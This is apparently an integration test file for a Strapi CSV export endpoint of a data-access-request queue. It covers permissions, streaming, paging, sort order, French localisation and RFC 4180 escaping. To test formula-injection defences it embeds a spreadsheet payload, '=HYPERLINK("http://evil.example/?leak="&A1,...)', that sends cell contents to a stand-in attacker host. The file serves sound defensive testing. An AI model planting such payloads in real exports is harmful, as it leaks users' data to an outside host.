import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bootStrapi, type TestApp } from '../helpers/strapi';
import { createDataset, inBatches, seedRequest, silenceMail, staffPerRole, type Staff } from '../helpers/workflow';
import { userWithSession, type TestUser } from '../helpers/sessions';
import { queueCsvStream } from '../../src/modules/requests';

/**
 * GET /api/data-access-request/queue.csv — the queue's current view as a download (docs/workflow.md).
 * It pages through the queue index like GET …/queue does (docs/workflow.md, "The queue index").
 */
let app: TestApp;
let staff: Staff;
let mallory: TestUser & { auth: string };
let datasetId: string;
const BULK = 105; // more than one page of the queue (pageSize ≤ 100)
const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

beforeAll(async () => {
  app = await bootStrapi();
  silenceMail(app);
  staff = await staffPerRole(app, 'Csv ');
  mallory = await userWithSession(app, 'authenticated', {
    firstName: '+Mallory',
    lastName: 'O"Brien, Jr.',
    organization: '@evil org',
  });
  datasetId = await createDataset(app, 'csv-cohort', 'CSV Cohort; linked');
  await seedRequest(app, {
    format: 'v2',
    requester: mallory,
    projectTitle: INJECTION,
    datasets: [datasetId],
    requestStatus: 'assigned',
    assignee: staff['dag-member'],
  });
  await seedRequest(app, {
    format: 'v1',
    requester: mallory,
    projectTitle: '-2+3 line one\nline two, with comma',
    requestStatus: 'inReview',
  });
  await inBatches(
    Array.from({ length: BULK }, (_, i) => i),
    10,
    async (i) => {
      await seedRequest(app, {
        format: i % 2 ? 'v1' : 'v2',
        requester: staff.authenticated,
        projectTitle: `Bulkexport ${String(i).padStart(3, '0')}`,
        requestStatus: i % 3 ? 'new' : 'inReview',
      });
    },
  );
});
afterAll(async () => {
  await app?.stop();
});

/** An RFC 4180 reader (independent of the server's writer): rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const csv = (query: string, auth?: string) => {
  const req = request(app.server)
    .get(`/api/data-access-request/queue.csv${query}`)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
    });
  return auth ? req.set('Authorization', auth) : req;
};

const HEADER = [
  'Reference',
  'Format',
  'Title',
  'Requester',
  'Organization',
  'Approval status',
  'Request status',
  'Assignee',
  'Datasets',
  'Submitted',
  'Last update',
];

const FRENCH_HEADER = [
  'Référence',
  'Format',
  'Titre',
  'Demandeur',
  'Organisation',
  'Statut d’approbation',
  'Statut de la demande',
  'Responsable',
  'Jeux de données',
  'Soumise le',
  'Dernière mise à jour',
];

describe('who may export', { timeout: 120_000 }, () => {
  it('needs a session (401) and an internal role (403 for applicants)', async () => {
    const anonymous = await request(app.server).get('/api/data-access-request/queue.csv');
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.error.message).toBe('User is not logged in');
    const applicant = await request(app.server)
      .get('/api/data-access-request/queue.csv')
      .set('Authorization', mallory.auth);
    expect(applicant.status).toBe(403);
    expect(applicant.text).not.toContain('Bulkexport');
  });

  it('is open to every internal role, readonly-user included', async () => {
    for (const role of ['dag-member', 'dag-chair', 'queue-manager', 'contract-manager', 'readonly-user'] as const) {
      const res = await csv('?q=Bulkexport%20000', staff[role].auth);
      expect(res.status, role).toBe(200);
    }
  });
});

describe('the file', { timeout: 120_000 }, () => {
  it('is a streamed UTF-8 CSV attachment named after today, with a header row', async () => {
    const res = await csv('?q=Bulkexport', staff['queue-manager'].auth);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="request-queue-${today}.csv"`);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.headers['content-length']).toBeUndefined(); // streamed (chunked), not buffered
    const text = res.body as string;
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(HEADER);
  });

  it('has every page of the filtered, sorted view: the same requests in the same order as GET …/queue', async () => {
    const query = '?q=Bulkexport&sort=projectTitle:desc';
    const rows = parseCsv(((await csv(query, staff['queue-manager'].auth)).body as string).slice(1)).slice(1);
    expect(rows).toHaveLength(BULK);
    const fromQueue: string[] = [];
    for (let page = 1; page <= 2; page += 1) {
      const res = await request(app.server)
        .get(`/api/data-access-request/queue${query}&page=${page}&pageSize=100`)
        .set('Authorization', staff['queue-manager'].auth);
      fromQueue.push(...(res.body.data as Array<{ documentId: string }>).map((item) => item.documentId));
    }
    expect(rows.map((row) => row[0])).toEqual(fromQueue);
    expect(rows[0]![2]).toBe(`Bulkexport ${String(BULK - 1).padStart(3, '0')}`);
    // page and pageSize of the query are ignored: the export is the whole view
    const paged = parseCsv(
      ((await csv(`${query}&page=2&pageSize=5`, staff['queue-manager'].auth)).body as string).slice(1),
    );
    expect(paged).toHaveLength(BULK + 1);

    const filtered = parseCsv(
      ((await csv('?q=Bulkexport&requestStatus=inReview&format=v1', staff['queue-manager'].auth)).body as string).slice(
        1,
      ),
    ).slice(1);
    expect(filtered.length).toBe(Array.from({ length: BULK }, (_, i) => i).filter((i) => i % 2 && !(i % 3)).length);
    for (const row of filtered) expect([row[1], row[6]]).toEqual(['v1', 'inReview']);
  });

  it('reads on from where each read left off: every sort in both orders, ties included, each request once', async () => {
    const manager = staff['queue-manager'];
    const actor = { id: manager.id, documentId: manager.documentId, role: { type: manager.role } };
    // Statuses, formats and due dates tie across many requests; the keys after them decide.
    for (const field of ['updatedAt', 'createdAt', 'projectTitle', 'requestStatus', 'dueAt'])
      for (const order of ['asc', 'desc']) {
        const sort = `${field}:${order}`;
        const fromQueue: string[] = [];
        for (let page = 1; page <= 2; page += 1) {
          const res = await request(app.server)
            .get(`/api/data-access-request/queue?q=Bulkexport&sort=${sort}&page=${page}&pageSize=100`)
            .set('Authorization', manager.auth);
          fromQueue.push(...(res.body.data as Array<{ documentId: string }>).map((item) => item.documentId));
        }
        // Reads of 7: fifteen of them, each but the first going on from a cursor.
        const stream = await queueCsvStream(
          app.strapi,
          { actor, scope: ['v1', 'v2'], query: { q: 'Bulkexport', sort } },
          { pageSize: 7 },
        );
        let text = '';
        for await (const chunk of stream) text += String(chunk);
        const references = parseCsv(text.slice(1))
          .slice(1)
          .map((row) => row[0]);
        expect(fromQueue, sort).toHaveLength(BULK);
        expect(references, sort).toEqual(fromQueue);
      }
  });

  it('writes one row per request with the columns of the queue item', async () => {
    const rows = parseCsv(((await csv('?q=Mallory', staff['queue-manager'].auth)).body as string).slice(1)).slice(1);
    const v2 = rows.find((row) => row[1] === 'v2')!;
    expect(v2).toHaveLength(HEADER.length);
    expect(v2.slice(3, 9)).toEqual([
      '\'+Mallory O"Brien, Jr.',
      "'@evil org",
      'pending',
      'assigned',
      'Csv dag-member Tester',
      'CSV Cohort; linked',
    ]);
    expect(new Date(v2[9]!).toISOString()).toBe(v2[9]);
    expect(new Date(v2[10]!).toISOString()).toBe(v2[10]);
  });

  it('neutralises formulas and quotes as RFC 4180 requires', async () => {
    const text = ((await csv('?q=Mallory&sort=projectTitle:asc', staff['queue-manager'].auth)).body as string).slice(1);
    const rows = parseCsv(text).slice(1);
    const titles = rows.map((row) => row[2]);
    expect(titles).toContain(`'${INJECTION}`);
    expect(titles).toContain("'-2+3 line one\nline two, with comma");
    // no cell of the file starts with a formula character
    for (const row of parseCsv(text)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // the raw text: the injected title is one quoted cell with doubled quotes
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
  });

  it('refuses a bad query with the queue’s 400, as JSON', async () => {
    const res = await request(app.server)
      .get('/api/data-access-request/queue.csv?requestStatus=bogus')
      .set('Authorization', staff['queue-manager'].auth);
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    expect(res.body.error.message).toMatch(/^Unknown requestStatus: bogus/);
  });
});

describe('the language of the file', { timeout: 120_000 }, () => {
  const rowsOf = (text: string) => parseCsv(text.slice(1));

  it('is English, byte for byte the same, for locale=en, no locale, or a locale the CMS does not serve', async () => {
    const auth = staff['queue-manager'].auth;
    const plain = (await csv('?q=Mallory&sort=projectTitle:asc', auth)).body as string;
    expect(rowsOf(plain)[0]).toEqual(HEADER);
    for (const locale of ['en', 'de', 'xx-YY', '../fr']) {
      const res = await csv(`?q=Mallory&sort=projectTitle:asc&locale=${encodeURIComponent(locale)}`, auth);
      expect(res.status, locale).toBe(200);
      expect(res.body, locale).toBe(plain);
    }
    const repeated = await csv('?q=Mallory&sort=projectTitle:asc&locale=fr&locale=fr', auth);
    expect(repeated.body).toBe(plain);
  });

  it('writes the header and the statuses in French for locale=fr, the rest of the row unchanged', async () => {
    const auth = staff['queue-manager'].auth;
    const english = rowsOf((await csv('?q=Mallory', auth)).body as string);
    const res = await csv('?q=Mallory&locale=fr', auth);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const french = rowsOf(res.body as string);
    expect(french[0]).toEqual(FRENCH_HEADER);
    const v2 = french.find((row) => row[1] === 'v2')!;
    expect(v2.slice(5, 7)).toEqual(['En attente', 'Assignée']);
    const v1 = french.find((row) => row[1] === 'v1')!;
    expect(v1[6]).toBe('En évaluation');
    const englishV2 = english.find((row) => row[1] === 'v2')!;
    expect([...v2.slice(0, 5), ...v2.slice(7)]).toEqual([...englishV2.slice(0, 5), ...englishV2.slice(7)]);
  });
});
